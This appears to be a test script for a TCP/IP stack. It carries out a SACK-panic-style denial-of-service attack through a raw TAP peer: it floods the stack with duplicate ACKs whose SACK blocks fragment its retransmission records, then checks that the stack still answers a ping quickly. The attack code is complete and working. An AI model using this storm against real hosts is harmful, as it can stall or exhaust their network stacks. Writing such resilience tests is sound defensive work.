# Attack e: SACK-panic style. A raw peer connects to the echo (SACK permitted, no timestamps: four SACK blocks
# per ACK), grows the stack's congestion window by ACKing its echo in order, then holds its cumulative ACK and
# keeps the data coming so that a large flight is outstanding, and answers with a storm of duplicate ACKs whose
# SACK blocks each grow one of 32 ranges by a single byte: every block is a new split of the sender's
# per-segment records. Afterwards the stack must answer a ping at once.
import re, subprocess, sys
sys.path.insert(0, sys.argv[1])
from rawnet import *
ifname, stack, peer_ip, port, storm = sys.argv[2], sys.argv[3], sys.argv[4], int(sys.argv[5]), int(sys.argv[6])
MAX_RTT_MS = 250
tap = Tap(ifname)
smac = stack_mac(stack)
peer = Peer(tap, peer_ip, stack, smac)
peer.announce()
c = peer.connect(port, mss=1460, wscale=7, sack=True, ts=False)
irs = c.rcv_nxt  # the stack's first data byte
WIN = 0xFFFF  # << 7: 8 MiB
payload = bytes(range(256)) * 6
highest = c.rcv_nxt
stack_ack = c.snd_nxt
stack_wnd = 65535
hold = None          # the cumulative ACK we freeze at
t_end = time.monotonic() + 20
ramp = 768 << 10
while time.monotonic() < t_end:
    # Feed the echo: keep up to 256 KiB of our data unacknowledged by the stack, within its window.
    budget = 32
    while budget and ((c.snd_nxt - stack_ack) & 0xFFFFFFFF) < min(256 << 10, stack_wnd) - len(payload):
        peer.send(c.sport, c.dport, c.snd_nxt, hold if hold is not None else c.rcv_nxt, ACK | PSH, WIN, b"",
                  payload[:1400])
        c.snd_nxt = (c.snd_nxt + 1400) & 0xFFFFFFFF
        budget -= 1
    f = peer.recv(0.005, c.sport)
    while f is not None:
        if f.flags & RST:
            die("the stack reset the raw connection: %r" % f)
        if f.flags & ACK and seq_after(f.ack, stack_ack):
            stack_ack = f.ack
        stack_wnd = f.win << 7
        end = (f.seq + len(f.data)) & 0xFFFFFFFF
        if f.data and f.seq == c.rcv_nxt:
            c.rcv_nxt = end
            if hold is None:
                c.ack(WIN)
        if f.data and seq_after(end, highest):
            highest = end
        f = peer.recv(0, c.sport)
    if hold is None and ((highest - irs) & 0xFFFFFFFF) > ramp:
        hold = c.rcv_nxt
        t_hold = time.monotonic()
    if hold is not None and time.monotonic() - t_hold > 0.3:
        break
if hold is None:
    die("the stack never had %d bytes of echo in flight (highest %d)" % (ramp, (highest - irs) & 0xFFFFFFFF))
flight = (highest - hold) & 0xFFFFFFFF
print("outstanding flight above the held ACK: %d bytes" % flight, flush=True)
if flight < 64 << 10:
    die("flight too small for the attack: %d bytes" % flight)
RANGES = 32
step = flight // (RANGES + 1)
starts = [(hold + 1 + (j + 1) * step) & 0xFFFFFFFF for j in range(RANGES)]
lens = [1] * RANGES
t0 = time.monotonic()
sent = 0
j = 0
while sent < storm:
    blocks = []
    for _ in range(4):
        if lens[j] < step - 2:
            lens[j] += 1
        blocks.append((starts[j], (starts[j] + lens[j]) & 0xFFFFFFFF))
        j = (j + 1) % RANGES
    peer.send(c.sport, c.dport, c.snd_nxt, hold, ACK, WIN, opt_sack(blocks))
    sent += 1
    if sent % 256 == 0:
        while peer.recv(0) is not None:  # keep our socket buffer from filling with the stack's retransmissions
            pass
dt = time.monotonic() - t0
print("sent %d SACK ACKs (4 one-byte-growing blocks each) in %.2f s" % (sent, dt), flush=True)
# The storm is over: the stack must have worked through what the TAP queue still held and answer a ping at once.
r = subprocess.run(["ping", "-c", "1", "-W", "3", stack], capture_output=True, text=True)
m = re.search(r"time=([0-9.]+) ms", r.stdout)
if r.returncode != 0 or m is None:
    die("no ping answer within 3 s after the SACK storm:\n" + r.stdout)
rtt = float(m.group(1))
print("ping right after the storm: %.1f ms" % rtt, flush=True)
if rtt > MAX_RTT_MS:
    die("the stack took %.0f ms to answer a ping after the SACK storm (at most %d ms): it is still chewing on "
        "the storm's SACK blocks" % (rtt, MAX_RTT_MS))
c.rst()
